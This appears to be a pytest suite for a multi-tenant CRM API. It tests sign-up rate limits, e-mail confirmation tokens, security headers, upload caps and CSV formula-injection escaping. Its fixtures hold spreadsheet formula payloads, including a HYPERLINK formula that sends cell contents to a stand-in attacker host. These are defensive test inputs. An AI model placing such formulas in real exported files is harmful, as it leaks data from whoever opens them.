"""Issue 12, items 5, 7, 8 and 9 against the real app over HTTP (uvicorn, threads for parallel requests):
sign-up limits and e-mail confirmation (a real SMTP server, aiosmtpd), security headers, CSV formula
injection, and upload caps, quota and leftovers."""

import csv
import io
import re
import socket
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from email import message_from_bytes
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import httpx
import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from app.settings import get_settings
from tests.conftest import TenantHandle, api_login

PASSWORD = "Senha-forte-123"


def _signup_body(slug: str) -> dict[str, str]:
    return {
        "name": f"Org {slug}",
        "slug": slug,
        "admin_name": "Admin",
        "admin_email": f"admin@{slug}.com.br",
        "admin_password": PASSWORD,
    }


def _slug() -> str:
    return f"s{uuid.uuid4().hex[:10]}"


def _login(http: httpx.Client, slug: str) -> httpx.Response:
    return http.post(
        "/api/auth/login", json={"tenant": slug, "email": f"admin@{slug}.com.br", "password": PASSWORD}
    )


def _sql(statement: str, **params: Any) -> Any:
    from tenants.database import engine

    with engine().begin() as conn:
        return conn.execute(text(statement), params)


def _tenant_row(slug: str) -> Any:
    return _sql(
        "SELECT id, status, schema_name, confirmed_at FROM platform.tenants WHERE slug = :s", s=slug
    ).first()


def _schema_exists(schema: str) -> bool:
    return bool(_sql("SELECT 1 FROM pg_namespace WHERE nspname = :s", s=schema).first())


@pytest.fixture
def signups(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A clean per-IP count (every request of this suite comes from 127.0.0.1)."""
    _sql("DELETE FROM platform.audit_log WHERE action = 'tenant.signup'")
    monkeypatch.setattr(get_settings(), "signup_max_per_ip", 100)
    yield
    _sql("DELETE FROM platform.audit_log WHERE action = 'tenant.signup'")


class _Inbox:
    def __init__(self) -> None:
        self.messages: list[Any] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        self.messages.append(message_from_bytes(envelope.content))
        return "250 OK"


@pytest.fixture
def smtp(monkeypatch: pytest.MonkeyPatch, signups: None) -> Iterator[_Inbox]:
    """A real SMTP server (aiosmtpd) on loopback, configured as the platform's mail."""
    from aiosmtpd.controller import Controller

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = int(s.getsockname()[1])
    inbox = _Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    settings = get_settings()
    monkeypatch.setattr(settings, "platform_smtp_host", "127.0.0.1")
    monkeypatch.setattr(settings, "platform_smtp_port", port)
    monkeypatch.setattr(settings, "platform_smtp_starttls", False)
    monkeypatch.setattr(settings, "platform_smtp_from", "CRM <nao-responda@crm.example.test>")
    monkeypatch.setattr(settings, "public_url", "https://crm.example.test")
    yield inbox
    controller.stop()


def _token_for(inbox: _Inbox, email: str) -> str:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        for msg in inbox.messages:
            if msg["To"] == email:
                body = msg.get_payload(decode=True).decode()
                link = re.search(r"https://crm\.example\.test/cadastro/confirmar\?token=(\S+)", body)
                assert link, body
                return unquote(link.group(1))
        time.sleep(0.05)
    raise AssertionError(f"no confirmation e-mail to {email}")


# ------------------------------------------------------------------------------------- 5. sign-up


def test_signup_is_rate_limited_per_ip_even_in_parallel(
    live_url: str, signups: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(get_settings(), "signup_max_per_ip", 2)
    slugs = [_slug() for _ in range(6)]

    def attempt(slug: str) -> httpx.Response:
        return httpx.post(f"{live_url}/api/signup", json=_signup_body(slug), timeout=60)

    with ThreadPoolExecutor(6) as pool:
        answers = list(pool.map(attempt, slugs))
    codes = sorted(r.status_code for r in answers)
    assert codes == [201, 201, 429, 429, 429, 429], [r.text for r in answers]
    refused = next(r for r in answers if r.status_code == 429)
    assert refused.json()["error"] == "rate_limited" and "cadastros" in refused.json()["detail"]
    # The refused ones left no tenant and no schema behind.
    created = [s for s, r in zip(slugs, answers, strict=True) if r.status_code == 201]
    assert all(_tenant_row(s) is None for s in slugs if s not in created)
    assert all(_tenant_row(s).status == "active" for s in created)  # no SMTP here: confirmed at once


def test_signup_without_platform_smtp_is_confirmed_at_once_and_logged(
    http: httpx.Client, signups: None, caplog: pytest.LogCaptureFixture
) -> None:
    slug = _slug()
    with caplog.at_level("WARNING", logger="app.platform.signup"):
        r = http.post("/api/signup", json=_signup_body(slug))
    assert r.status_code == 201, r.text
    assert r.json()["status"] == "active" and r.json()["confirmation_sent"] is False
    assert any("no platform SMTP configured" in m and slug in m for m in caplog.messages)
    assert _login(http, slug).status_code == 200


def test_signup_waits_for_the_emailed_link(http: httpx.Client, smtp: _Inbox, live_url: str) -> None:
    slug = _slug()
    r = http.post("/api/signup", json=_signup_body(slug))
    assert r.status_code == 201, r.text
    assert r.json()["status"] == "unconfirmed" and r.json()["confirmation_sent"] is True
    # Unusable until confirmed: no login.
    assert _login(http, slug).status_code in (401, 403)
    token = _token_for(smtp, f"admin@{slug}.com.br")
    assert smtp.messages[-1]["Subject"].startswith("Confirme")

    # A forged or tampered token does nothing.
    payload, _, signature = token.partition(".")
    for bad in [f"{payload}.{'A' * len(signature)}", f"{payload[:-2]}xx.{signature}", "", "lixo"]:
        r = http.post("/api/signup/confirm", json={"token": bad or "x"})
        assert r.status_code == 422, (bad, r.text)
    assert _tenant_row(slug).status == "unconfirmed"

    # The genuine link works exactly once, even when clicked twice at the same moment.
    def confirm() -> int:
        return httpx.post(f"{live_url}/api/signup/confirm", json={"token": token}, timeout=30).status_code

    with ThreadPoolExecutor(4) as pool:
        codes = sorted(pool.map(lambda _: confirm(), range(4)))
    assert codes == [200, 422, 422, 422]
    row = _tenant_row(slug)
    assert row.status == "active" and row.confirmed_at is not None
    assert _login(http, slug).status_code == 200
    actions = [
        a
        for (a,) in _sql(
            "SELECT action FROM platform.audit_log WHERE tenant_id = :t ORDER BY id", t=row.id
        ).all()
    ]
    assert "tenant.signup" in actions and "tenant.confirm" in actions


def test_expired_confirmation_token_is_refused(http: httpx.Client, smtp: _Inbox) -> None:
    from app.platform import signup

    slug = _slug()
    assert http.post("/api/signup", json=_signup_body(slug)).status_code == 201
    row = _tenant_row(slug)
    old = signup.issue_token(row.id, f"admin@{slug}.com.br", now=time.time() - 8 * 86400)
    r = http.post("/api/signup/confirm", json={"token": old})
    assert r.status_code == 422 and "expirado" in r.json()["detail"]
    assert _tenant_row(slug).status == "unconfirmed"


def test_signup_mail_failure_leaves_no_tenant(
    http: httpx.Client, signups: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed_port = int(s.getsockname()[1])
    monkeypatch.setattr(get_settings(), "platform_smtp_host", "127.0.0.1")
    monkeypatch.setattr(get_settings(), "platform_smtp_port", closed_port)
    slug = _slug()
    r = http.post("/api/signup", json=_signup_body(slug))
    assert r.status_code == 503 and r.json()["error"] == "mail_unavailable"
    assert _tenant_row(slug) is None


def _superadmin_headers(http: httpx.Client) -> dict[str, str]:
    from app.auth.superadmins import create_superadmin
    from tenants.database import platform_session

    email = f"root-{uuid.uuid4().hex[:6]}@crm.local"
    with platform_session() as db:
        create_superadmin(db, email, "Senha-forte-1")
        db.commit()
    r = http.post("/api/auth/login", json={"email": email, "password": "Senha-forte-1"})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def test_superadmin_purges_unconfirmed_signups(
    http: httpx.Client, smtp: _Inbox, tenant: TenantHandle
) -> None:
    old, fresh = _slug(), _slug()
    for slug in (old, fresh):
        assert http.post("/api/signup", json=_signup_body(slug)).status_code == 201
    _sql("UPDATE platform.tenants SET created_at = now() - interval '8 days' WHERE slug = :s", s=old)
    old_row, fresh_row = _tenant_row(old), _tenant_row(fresh)
    assert _schema_exists(old_row.schema_name)

    # Tenant admins may not.
    r = http.post("/api/platform/tenants/purge-unconfirmed", headers=api_login(http, tenant))
    assert r.status_code == 403
    su = _superadmin_headers(http)
    r = http.post("/api/platform/tenants/purge-unconfirmed", headers=su)
    assert r.status_code == 200, r.text
    assert old in r.json()["purged"] and fresh not in r.json()["purged"]
    assert tenant.slug not in r.json()["purged"]  # confirmed tenants are never purged
    assert _tenant_row(old) is None and not _schema_exists(old_row.schema_name)
    assert _sql("SELECT count(*) FROM platform.users WHERE tenant_id = :t", t=old_row.id).scalar() == 0
    assert _tenant_row(fresh).status == "unconfirmed"
    audit = _sql(
        "SELECT actor_email, before FROM platform.audit_log WHERE action = 'tenant.purge' AND tenant_id = :t",
        t=old_row.id,
    ).first()
    assert audit is not None and audit.actor_email.startswith("root-") and audit.before["slug"] == old

    # The CLI, with an explicit age: the fresh one goes too; the link of a purged tenant is dead.
    from app.cli import cli

    token = _token_for(smtp, f"admin@{fresh}.com.br")
    result = CliRunner().invoke(cli, ["tenants", "purge-unconfirmed", "--older-than-days", "0"])
    assert result.exit_code == 0, result.output
    assert fresh in result.output
    assert _tenant_row(fresh) is None and not _schema_exists(fresh_row.schema_name)
    assert http.post("/api/signup/confirm", json={"token": token}).status_code == 422


def test_scheduled_purge_takes_only_week_old_unconfirmed(http: httpx.Client, smtp: _Inbox) -> None:
    from tasks.platform import purge_unconfirmed_now

    old, fresh = _slug(), _slug()
    for slug in (old, fresh):
        assert http.post("/api/signup", json=_signup_body(slug)).status_code == 201
    _sql("UPDATE platform.tenants SET created_at = now() - interval '7 days 1 hour' WHERE slug = :s", s=old)
    purged = purge_unconfirmed_now()
    assert old in purged and fresh not in purged


# ------------------------------------------------------------------------------------- 7. headers


def _check_headers(r: httpx.Response) -> None:
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["referrer-policy"] == "strict-origin-when-cross-origin"
    csp = r.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp and "object-src 'none'" in csp
    assert "server" not in r.headers


def test_security_headers_on_every_kind_of_response(http: httpx.Client, tenant: TenantHandle) -> None:
    headers = api_login(http, tenant)
    answers = [
        http.get("/api/health"),
        http.get("/api/clientes"),  # 401
        http.get("/api/nao-existe"),  # 404
        http.get("/api/clientes", params={"limit": "x"}, headers=headers),  # 422
        http.get("/api/clientes", headers=headers),
        http.post("/api/clientes/exportar", json={}, headers=headers),  # streamed CSV
        http.get("/openapi.json"),
    ]
    for r in answers:
        _check_headers(r)
    assert "strict-transport-security" not in answers[0].headers  # served over plain http
    docs = http.get("/api/docs")
    _check_headers(docs)
    assert "https://cdn.jsdelivr.net" in docs.headers["content-security-policy"]


def test_hsts_only_over_https(http: httpx.Client, monkeypatch: pytest.MonkeyPatch) -> None:
    from app.api import security_headers

    monkeypatch.setattr(get_settings(), "public_url", "https://crm.example.test")
    security_headers.default_csp.cache_clear()
    try:
        r = http.get("/api/health")
        assert r.headers["strict-transport-security"].startswith("max-age=")
        assert "wss://crm.example.test" in r.headers["content-security-policy"]
    finally:
        monkeypatch.undo()
        security_headers.default_csp.cache_clear()
    assert "strict-transport-security" not in http.get("/api/health").headers


# ------------------------------------------------------------------------------- 8. CSV injection

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline=""), delimiter=";"))


def test_customer_export_neutralises_formulas(http: httpx.Client, tenant: TenantHandle) -> None:
    from app.crm import custom_fields, customers
    from tenants.database import session, unit_of_work

    actor = tenant.actor()
    with session(tenant.schema) as db, unit_of_work(db):
        custom_fields.create_field(
            db, actor, custom_fields.CustomFieldIn(key="celular", label="Celular", type="text")
        )
    with session(tenant.schema) as db, unit_of_work(db):
        for formula in FORMULAS:
            customers.create_customer(
                db,
                actor,
                customers.CustomerIn(
                    name=formula,
                    trade_name=formula,
                    plan=formula[:100],
                    custom={"celular": "+5511987654321"},
                ),
            )
    r = http.post("/api/clientes/exportar", json={}, headers=api_login(http, tenant))
    assert r.status_code == 200
    rows = _rows(r.text)
    header, data = rows[0], rows[1:]
    assert len(data) == len(FORMULAS)
    for row in data:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (header, row)
    trade = header.index("nome_fantasia")
    assert sorted(row[trade] for row in data) == sorted("'" + f for f in FORMULAS)
    # Phones keep their E.164 digits behind the quote, and re-import as the same number.
    from app.importing.phones import normalise_phone

    phone = data[0][header.index("celular")]
    assert phone == "'+5511987654321" and normalise_phone(phone) == "+5511987654321"
    # Numbers the app produced are written as they are.
    assert all(row[header.index("score")] == "0" for row in data)


def test_import_error_csv_neutralises_formulas(http: httpx.Client, tenant: TenantHandle) -> None:
    headers = api_login(http, tenant)
    body = b'Nome;Telefone\n=HYPERLINK("http://evil.example","x");=1+2\n@SUM(1);+9\nMaria Souza;11987654321\n'
    r = http.post("/api/imports", files={"file": ("base.csv", body, "text/csv")}, headers=headers)
    assert r.status_code == 201, r.text
    import_id = r.json()["id"]
    deadline = time.monotonic() + 60
    while (state := http.get(f"/api/imports/{import_id}/status", headers=headers).json())["state"] not in (
        "done",
        "failed",
    ):
        assert time.monotonic() < deadline
        time.sleep(0.1)
    assert state["state"] == "done", state
    r = http.get(f"/api/imports/{import_id}/errors.csv", headers=headers)
    rows = _rows(r.text)
    assert len(rows) >= 3, rows
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example","x")' in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)], rows


# ---------------------------------------------------------------------------------------- 9. uploads


def _upload_dir(schema: str) -> Path:
    from app.storage import get_storage

    return get_storage().uploads.root / schema


def _leftovers(schema: str) -> list[str]:
    d = _upload_dir(schema)
    return sorted(p.name for p in d.iterdir() if p.name != ".lock") if d.exists() else []


def test_declared_size_over_cap_or_missing_is_refused_before_any_byte(
    http: httpx.Client, tenant: TenantHandle
) -> None:
    headers = api_login(http, tenant)
    # Beyond the 64-bit range the shared input types refuse it; within it, the cap does.
    r = http.post("/api/imports/uploads", json={"filename": "a.csv", "size": 2**64}, headers=headers)
    assert r.status_code == 422 and "size" in r.json()["fields"], r.text
    r = http.post(
        "/api/imports/uploads",
        json={"filename": "a.csv", "size": get_settings().upload_max_bytes + 1},
        headers=headers,
    )
    assert r.status_code == 413, r.text
    assert r.json()["error"] == "too_large" and "GB" in r.json()["detail"]
    r = http.post("/api/imports/uploads", json={"filename": "a.csv"}, headers=headers)
    assert r.status_code == 422 and "size" in r.json()["fields"]
    assert _leftovers(tenant.schema) == []
    # At the cap itself it opens (nothing is sent yet).
    r = http.post(
        "/api/imports/uploads",
        json={"filename": "a.csv", "size": get_settings().upload_max_bytes},
        headers=headers,
    )
    assert r.status_code == 201, r.text


def test_bytes_beyond_declared_size_are_refused_and_deleted(http: httpx.Client, tenant: TenantHandle) -> None:
    headers = api_login(http, tenant)
    up = http.post("/api/imports/uploads", json={"filename": "a.csv", "size": 10}, headers=headers).json()
    url = f"/api/imports/uploads/{up['upload_id']}"
    r = http.patch(url, content=b"x" * 100_000, headers={**headers, "Upload-Offset": "0"})
    assert r.status_code == 413 and r.json()["error"] == "too_large"
    assert http.get(url, headers=headers).status_code == 404
    assert _leftovers(tenant.schema) == []

    # Within the declared size, then one byte too many in a later chunk.
    up = http.post("/api/imports/uploads", json={"filename": "b.csv", "size": 10}, headers=headers).json()
    url = f"/api/imports/uploads/{up['upload_id']}"
    assert (
        http.patch(url, content=b"n;t\n1;2\n", headers={**headers, "Upload-Offset": "0"}).json()["offset"]
        == 8
    )
    r = http.patch(url, content=b"abc", headers={**headers, "Upload-Offset": "8"})
    assert r.status_code == 413
    assert http.get(url, headers=headers).status_code == 404
    assert _leftovers(tenant.schema) == []


def test_chunked_body_without_length_stops_at_declared_size(
    live_url: str, http: httpx.Client, tenant: TenantHandle
) -> None:
    headers = api_login(http, tenant)
    up = http.post("/api/imports/uploads", json={"filename": "a.csv", "size": 1000}, headers=headers).json()
    host, port = urlsplit(live_url).hostname, urlsplit(live_url).port
    total = 32 * 1024 * 1024
    sent = 0
    reply = b""
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(
            (
                f"PATCH /api/imports/uploads/{up['upload_id']} HTTP/1.1\r\nHost: {host}\r\n"
                f"Authorization: {headers['Authorization']}\r\nUpload-Offset: 0\r\n"
                "Transfer-Encoding: chunked\r\nContent-Type: application/octet-stream\r\n\r\n"
            ).encode()
        )
        piece = b"x" * 65536
        try:
            while sent < total:
                sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
                sent += len(piece)
            sock.sendall(b"0\r\n\r\n")
        except OSError:  # the server answered and closed: it stopped reading
            pass
        try:
            while chunk := sock.recv(65536):
                reply += chunk
        except OSError:
            pass
    print(f"chunked overflow: client sent {sent} bytes before the server closed; reply {reply[:12]!r}")
    assert sent < total  # the server stopped reading the body
    if reply:  # the answer may be lost to the reset when the server closes on unread bytes
        assert reply.startswith(b"HTTP/1.1 413"), reply[:200]
    assert http.get(f"/api/imports/uploads/{up['upload_id']}", headers=headers).status_code == 404
    assert _leftovers(tenant.schema) == []


def test_tenant_storage_quota_holds_under_parallel_uploads(
    live_url: str, http: httpx.Client, tenant: TenantHandle
) -> None:
    headers = api_login(http, tenant)
    _sql(
        "UPDATE platform.tenants SET limits = jsonb_build_object('storage_bytes', 1000) WHERE id = :t",
        t=tenant.id,
    )

    def start(i: int) -> httpx.Response:
        return httpx.post(
            f"{live_url}/api/imports/uploads", json={"filename": f"{i}.csv", "size": 300}, headers=headers
        )

    with ThreadPoolExecutor(5) as pool:
        answers = list(pool.map(start, range(5)))
    assert sorted(r.status_code for r in answers) == [201, 201, 201, 413, 413]
    assert "cota" in next(r for r in answers if r.status_code == 413).json()["detail"]


def test_multipart_over_cap_is_refused_before_reading_and_rejected_files_leave_nothing(
    http: httpx.Client, make_tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    t = make_tenant()
    headers = api_login(http, t)
    monkeypatch.setattr(get_settings(), "upload_max_bytes", 4096)
    big = b"Nome;Telefone\n" + b"Fulano;11987654321\n" * 60_000  # ~1.1 MB (+ multipart envelope)
    r = http.post("/api/imports", files={"file": ("big.csv", big, "text/csv")}, headers=headers)
    assert r.status_code == 413, r.text
    monkeypatch.undo()
    # A file the importer rejects (not a spreadsheet) is deleted with its upload.
    r = http.post(
        "/api/imports",
        files={"file": ("x.xlsx", b"\x00\x01nao e planilha" * 10, "application/zip")},
        headers=headers,
    )
    assert 400 <= r.status_code < 500, r.text
    assert _leftovers(t.schema) == []
